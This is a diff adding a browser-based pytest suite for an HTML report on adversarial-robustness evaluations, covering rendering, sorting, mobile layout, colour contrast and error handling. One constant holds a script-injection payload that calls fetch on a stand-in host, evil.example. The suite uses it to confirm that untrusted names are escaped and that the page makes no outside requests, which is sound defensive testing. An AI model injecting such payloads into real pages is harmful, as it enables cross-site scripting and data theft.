@@ -1,0 +1,165 @@
+"""The report in a real browser: it renders, sorts, shows images at the pointer, and asks nobody for anything."""
+
+import json
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import sync_playwright
+
+from afa_dist.errors import UserError
+from afa_dist.report.blocks import Cell, Section, Table
+from afa_dist.report.page import write_page
+from afa_dist.report.sources import collect
+
+ROOT = Path(__file__).parents[2]
+ODD = "</script><script>fetch('http://evil.example/x')</script> \"'&<b>"
+
+
+@pytest.fixture(scope="module")
+def runs(trained_run, tmp_path_factory):
+    """Two evaluations of a trained run, beside each other, and a folder with copies of the model."""
+    folder = tmp_path_factory.mktemp("runs")
+    shutil.copytree(trained_run.path, folder / "trained")
+    for name, attacks in (("weak", "pgd-5"), ("strong", "pgd-10,apgd-ce")):
+        command = [sys.executable, ROOT / "jobs/evaluate.py", "--model", "trained", "--runs_dir", ".", "--name", name]
+        command += ["--threat.eps", "0.1", "--attacks", attacks, "--scaling.threads", "1", "--scaling.workers", "0"]
+        subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=120)
+    return folder
+
+
+@pytest.fixture(scope="module")
+def browser():
+    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    assert path, "this test needs a browser: apt-get install chromium"
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+class Seen:
+    """A page that is open, and what it said and asked for."""
+
+    def __init__(self, browser, path: Path, width: int = 1200, scheme: str = "light") -> None:
+        self.said: list[str] = []
+        self.asked: list[str] = []
+        self.context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
+        self.page = self.context.new_page()
+        self.page.on("console", lambda message: self.said.append(message.text))
+        self.page.on("pageerror", lambda error: self.said.append(str(error)))
+        self.page.on("request", lambda request: self.asked.append(request.url))
+        self.page.goto(path.as_uri())
+        self.page.wait_for_function("document.documentElement.dataset.ready === 'true'", timeout=60_000)
+
+    def fine(self, path: Path) -> None:
+        assert self.said == []
+        assert [url for url in self.asked if not url.startswith(("data:", "blob:"))] == [path.as_uri()]
+
+    def column(self, number: int) -> list[str]:
+        return self.page.locator(f"#accuracy tbody tr > :nth-child({number})").all_text_contents()
+
+
+def report(folder, *arguments):
+    command = [sys.executable, str(ROOT / "jobs/report.py"), *arguments]
+    return subprocess.run(command, cwd=folder, capture_output=True, text=True, timeout=120)
+
+
+def test_a_comparison_in_the_browser(runs, browser, tmp_path):
+    done = report(runs, "weak", "strong", "--out", str(tmp_path / "page.html"))
+    assert done.returncode == 0, done.stderr
+    path = tmp_path / "page.html"
+    seen = Seen(browser, path)
+    page = seen.page
+    summaries = {name: json.loads((runs / name / "evaluation/summary.json").read_text()) for name in ("weak", "strong")}
+    # The figures are those of the summaries.
+    text = page.locator("#accuracy table").inner_text()
+    for summary in summaries.values():
+        for entry in summary["accuracies"].values():
+            low, high = entry["interval_95"]
+            assert f"{100 * entry['accuracy']:.1f} [{100 * low:.1f}, {100 * high:.1f}]" in text
+    assert text.count("not AutoAttack") == 2
+    assert "different attacks" in page.locator("#accuracy .warning").all_inner_texts()[-1]
+    # The table sorts, in both directions, and what is missing goes last.
+    headings = page.locator("#accuracy thead button").all_text_contents()
+    number = headings.index("all attacks") + 1
+    for _ in range(2):
+        page.locator("#accuracy thead button", has_text="all attacks").click()
+        values = [float(cell.split()[0]) for cell in seen.column(number)]
+        direction = page.locator(f"#accuracy thead th:nth-child({number})").get_attribute("aria-sort")
+        assert values == sorted(values, reverse=direction == "descending") and len(set(values)) == 2
+    for _ in range(2):
+        page.locator("#accuracy thead button", has_text="apgd-ce").click()
+        assert seen.column(headings.index("apgd-ce") + 1)[-1] == "-"
+    # Charts are drawn, pictures are there, each with words for whoever cannot see it.
+    charts = page.locator(".chart")
+    assert charts.count() >= 4
+    assert all(charts.nth(i).locator("svg").count() for i in range(charts.count()))
+    assert page.evaluate("[...document.images].every((image) => image.complete && image.naturalWidth > 0 && image.alt)")
+    assert page.locator("#examples .strip").count() > 10
+    assert (
+        "python jobs/" in page.locator("#provenance pre").first.text_content()
+        or "evaluate.py" in page.locator("#provenance pre").nth(1).text_content()
+    )
+    seen.fine(path)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_a_telephone_shows_all_without_scrolling_sideways(runs, browser, scheme):
+    done = report(runs, "strong")
+    assert done.returncode == 0, done.stderr
+    path = runs / "strong/report.html"
+    seen = Seen(browser, path, width=380, scheme=scheme)
+    assert seen.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    ground = "getComputedStyle(document.body).backgroundColor"
+    before = seen.page.evaluate(ground)
+    assert (before == "rgb(255, 255, 255)") == (scheme == "light")
+    assert contrast(before, seen.page.evaluate("getComputedStyle(document.body).color")) > 7
+    seen.page.locator("#theme").click()
+    assert seen.page.evaluate(ground) != before
+    seen.fine(path)
+
+
+def contrast(one: str, other: str) -> float:
+    """Contrast ratio of two colours (WCAG 2)."""
+
+    def luminance(colour):
+        parts = [int(value) / 255 for value in re.findall(r"\d+", colour)[:3]]
+        linear = [v / 12.92 if v <= 0.03928 else ((v + 0.055) / 1.055) ** 2.4 for v in parts]
+        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+    dark, light = sorted((luminance(one), luminance(other)))
+    return (light + 0.05) / (dark + 0.05)
+
+
+def test_texts_of_others_are_texts(browser, tmp_path):
+    """Names of runs, classes and attacks come from files that somebody else may have written."""
+    table = Table(ODD, ["model", ODD], [[Cell(ODD, ODD, head=True), Cell(ODD, 1.0)]])
+    from afa_dist.report.blocks import Figure
+
+    figure = Figure(ODD, ODD, {"data": [{"type": "bar", "name": ODD, "x": [ODD], "y": [1]}], "layout": {}})
+    section = Section("accuracy", ODD, ODD, [ODD], [table], [figure], [], [(ODD, ODD)])
+    write_page(tmp_path / "odd.html", ODD, [section, Section("empty", "not shown")])
+    seen = Seen(browser, tmp_path / "odd.html")
+    assert seen.page.title().strip() == ODD.strip()
+    assert seen.page.locator("h1").inner_text() == ODD.strip()
+    assert seen.page.locator("#empty").count() == 0
+    seen.fine(tmp_path / "odd.html")
+
+
+def test_what_a_report_is_made_of_is_found(runs, tmp_path):
+    (entry, other) = sorted(collect([str(runs / "trained")]), key=lambda entry: entry.evaluation.directory.path.name)
+    assert [entry.evaluation.directory.path.name, other.evaluation.directory.path.name] == ["strong", "weak"]
+    assert [stage.title for stage in entry.stages] in ([], ["trained"])
+    with pytest.raises(UserError) as caught:
+        collect([str(runs / "none"), str(tmp_path)])
+    assert len(caught.value.problems) == 2
+
+
+def test_a_report_of_nothing_is_refused(runs, tmp_path):
+    for arguments, words in (([], "missing"), (["nowhere"], "holds no finished"), (["weak", "--out", "x.pdf"], ".html")):
+        done = report(runs, *arguments)
+        assert done.returncode == 2 and words in done.stderr and "Traceback" not in done.stderr, done.stderr
